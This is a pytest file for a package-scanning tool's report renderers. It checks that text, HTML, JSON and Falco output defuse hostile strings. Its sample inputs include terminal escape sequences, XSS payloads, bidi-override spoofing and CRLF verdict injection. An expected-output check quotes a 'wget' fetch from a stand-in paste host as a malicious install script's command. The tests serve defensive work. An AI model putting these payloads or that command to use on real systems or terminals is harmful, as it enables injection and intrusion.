"""Every format, on an ordinary report and on hostile ones: valid, harmless, nothing of a terminal escape."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from package_hunter.model.report import Canaries, Report
from package_hunter.model.scan import Coverage, Decision, FailedCommand, Package, ScanStatus, Target, Verdict
from package_hunter.policy import explanation
from package_hunter.report import FORMATS, text
from package_hunter.report.falco import alerts
from package_hunter.report.harmless import defang, harmless
from tests.support import judge_samples as samples
from tests.support.judge_samples import judge

GOLDEN = Path(__file__).parent / "golden"
FINDINGS = judge(
    samples.OBSERVATION,
    samples.NETWORK,
    (samples.CANARY,),
    packages=(samples.PACKAGE,),
    coverage=samples.COVERAGE,
)
REPORT = samples.report(findings=FINDINGS, explanation=explanation(FINDINGS, samples.COVERAGE))
QUIET = replace(
    REPORT,
    verdict=Verdict.NO_FINDINGS,
    decision=Decision.PASS,
    findings=(),
    alerts=(),
    network=type(REPORT.network)(),
    canaries=Canaries(),
    explanation=explanation((), samples.COVERAGE),
)
BLIND = replace(
    QUIET,
    verdict=Verdict.INCONCLUSIVE,
    decision=Decision.REVIEW,
    coverage=replace(samples.COVERAGE, reasons=("The install phase failed.",), dropped=7),
)
FAILED = replace(BLIND, status=ScanStatus.FAILED, error="The archive is truncated.", coverage=Coverage())
REPORTS = {"malicious": REPORT, "quiet": QUIET, "blind": BLIND, "failed": FAILED}
# what no format may pass on raw: controls, bidi overrides, zero-width, BOM, tags
DANGEROUS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\U000e0000-\U000e007f]"
)


def rendered(name: str, report: Report) -> str:
    return text.render(report, color=False, width=100) if name == "text" else FORMATS[name](report)


@pytest.mark.parametrize("name", FORMATS)
@pytest.mark.parametrize("which", REPORTS)
def test_golden(name: str, which: str, request: pytest.FixtureRequest) -> None:
    """To renew after a wanted change: PACKAGE_HUNTER_GOLDEN=1, then read the difference."""
    import os

    path = GOLDEN / f"{which}.{name}"
    got = rendered(name, REPORTS[which])
    if os.environ.get("PACKAGE_HUNTER_GOLDEN") == "1":
        path.parent.mkdir(exist_ok=True)
        path.write_text(got, encoding="utf-8")
    assert got == path.read_text(encoding="utf-8")


def hostile(bad: str) -> Report:
    """A report with the text wherever text can come from a box."""
    blame = replace(samples.BLAME, cmdline=bad, script=bad, path=("app", bad), package=f"pkg:npm/{bad}@1")
    finding = replace(
        FINDINGS[0],
        title=bad,
        blame=blame,
        evidence=(
            replace(FINDINGS[0].evidence[0], what=bad, data={"rule": bad, "priority": "Notice", "x": bad}),
        ),
        explain=(bad,),
    )
    request = replace(
        samples.NETWORK.requests[0], url=f"https://e.example/{bad}", method=bad, headers=((bad, bad),)
    )
    network = replace(
        samples.NETWORK,
        dns=tuple(replace(d, name=bad) for d in samples.NETWORK.dns),
        connections=tuple(replace(c, name=bad, sni=bad) for c in samples.NETWORK.connections),
        requests=(request,),
        hits=(replace(samples.HIT, destination=bad, channel=bad, encoding=(bad,)),),
    )
    return samples.report(
        target=Target(bad, "npm"),
        findings=(finding, replace(finding, severity="info")),
        alerts=(samples.alert(output=bad, rule=bad, output_fields={"proc.cmdline": bad}, blame=blame),),
        packages=(Package("pkg:npm/x@1", bad, bad, bad, chain=(bad,), scripts={"postinstall": bad}),),
        network=network,
        canaries=Canaries(
            (replace(samples.CANARY, place=bad),), (replace(samples.READ, path=bad),), network.hits, (bad,)
        ),
        processes=tuple(replace(p, cmdline=bad, name=bad, exepath=bad, cwd=bad) for p in samples.PROCESSES),
        files=tuple(replace(f, path=bad) for f in samples.OBSERVATION.files),
        coverage=replace(samples.COVERAGE, reasons=(bad,), notes=(bad,)),
        notices=(bad,),
        error=bad,
        hostname=bad,
    )


NASTY = (
    "\x1b]0;owned\x07\x1b[2J\x1b[31m",
    "a\r\nVERDICT: no findings",
    "[bold red]markup[/] :warning:",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "\u202egnp.exe\u2066\u200b\ufeff",
    "`|*_ [x](javascript:alert(1)) ::error:: \n## heading",
    "\ud800\udfff lone \udcff",
    "%s {0} ${x} {{x}} &#x3c; \\u003c",
    "\x9b31m c1 controls \x85",
    "x" * 5000,
)


def check(name: str, report: Report) -> None:
    got = rendered(name, report)
    got.encode("utf-8")
    assert not DANGEROUS.search(got), (name, DANGEROUS.search(got))


@pytest.mark.parametrize("name", FORMATS)
@pytest.mark.parametrize("bad", NASTY, ids=range(len(NASTY)))
def test_nasty_text_is_harmless(name: str, bad: str) -> None:
    check(name, hostile(bad))


@settings(max_examples=30, deadline=None)
@given(st.text(st.characters(codec=None, categories=None), max_size=60))
def test_any_text_is_harmless_in_every_format(bad: str) -> None:
    report = hostile(bad)
    for name in FORMATS:
        check(name, report)


def test_text_says_who_what_where_how_and_what_next() -> None:
    got = rendered("text", REPORT)
    for needed in (
        "MALICIOUS",
        "maldep 1.0.0, preinstall script",
        "demo-app > maldep",
        "Unexpected outbound connection destination (NOTICE)",
        "paste.example",
        "198.18.1.7",
        "npm install",
        "wget -qO- https://paste.example/raw/x",
        "Rotate secrets of these kinds: npm token",
        "What next",
    ):
        assert needed in got, needed
    assert got.splitlines()[0].startswith(
        " MALICIOUS  maldep 1.0.0: secrets were sent to collect.example: npm token"
    )


def test_text_explains_on_request() -> None:
    got = " ".join(text.render(REPORT, color=False, width=200, explain=True).split())
    assert "What would have lowered it: Nothing. The value is random" in got
    assert REPORT.findings[0].fingerprint in got
    assert "Why this verdict" in got


def test_text_never_clears() -> None:
    got = rendered("text", QUIET)
    assert "it can never clear a package" in " ".join(got.split())
    assert not re.search(r"\b(clean|safe|harmless|benign)\b", got)


def test_text_keeps_to_the_width() -> None:
    for width in (60, 80, 140):
        assert max(map(len, text.render(REPORT, color=False, width=width).splitlines())) <= width


def test_colour_is_asked_of_the_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("NO_COLOR", raising=False)
    monkeypatch.delenv("FORCE_COLOR", raising=False)
    assert "\x1b" not in text.render(REPORT), "not a terminal"
    monkeypatch.setenv("FORCE_COLOR", "1")
    assert "\x1b[" in text.render(REPORT)
    monkeypatch.setenv("NO_COLOR", "1")
    assert "\x1b" not in text.render(REPORT)


def test_projects_own_scripts_are_told_apart() -> None:
    own = replace(FINDINGS[0], blame=samples.PROJECT)
    got = rendered("text", replace(REPORT, findings=(own,)))
    assert "The project itself: secrets were sent" in got
    assert "the project's own postinstall script" in got


def test_falco_lines_hold_what_falcosidekick_needs() -> None:
    lines = [json.loads(line) for line in rendered("falco", REPORT).splitlines()]
    assert all(line["priority"] and line["rule"] and line["time"] and line["output_fields"] for line in lines)
    assert [line["time"] for line in lines] == sorted(line["time"] for line in lines)
    assert {"Unexpected outbound connection destination", "Package Hunter: exfiltration"} <= {
        x["rule"] for x in lines
    }


def test_findings_without_a_rule_become_alerts_once() -> None:
    rules = [a.rule for a in alerts(REPORT)]
    assert rules.count("Package Hunter: exfiltration") == 1
    assert rules.count("Unexpected outbound connection destination") == 1


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("https://evil.example/a?b=1", "hxxps://evil[.]example/a?b=1"),
        ("evil.example", "evil[.]example"),
        ("203.0.113.5", "203[.]0[.]113[.]5"),
        ("2001:db8::1", "2001[:]db8[:][:]1"),
    ],
)
def test_defang(raw: str, shown: str) -> None:
    assert defang(raw) == shown


@given(st.text(st.characters(codec=None, categories=None), max_size=100))
def test_harmless_is_one_printable_line(bad: Any) -> None:
    got = harmless(bad)
    assert "\n" not in got
    assert got.isprintable()
    got.encode()


def test_a_failed_commands_last_words_are_shown_and_cannot_harm() -> None:
    words = ("error: <script>alert(1)</script>", "\x1b[2Jhidden \u202e text")
    failed = FailedCommand(
        "install", "pip install", None, 1, "`pip install` failed: it needs a thing.", "", words
    )
    report = replace(BLIND, coverage=Coverage(reasons=(failed.reason,), failed=(failed,)))
    page = rendered("html", report)
    assert (
        "&lt;script&gt;alert(1)" in page
        and "<script" not in page
        and "\x1b" not in page
        and "\u202e" not in page
    )
    assert "The last words of pip install" in page
    assert json.loads(rendered("json", report))["coverage"]["failed"][0]["reason"] == failed.reason
    assert "failed" not in json.loads(rendered("json", QUIET))["coverage"]
    assert "it needs a thing." in rendered("text", report)
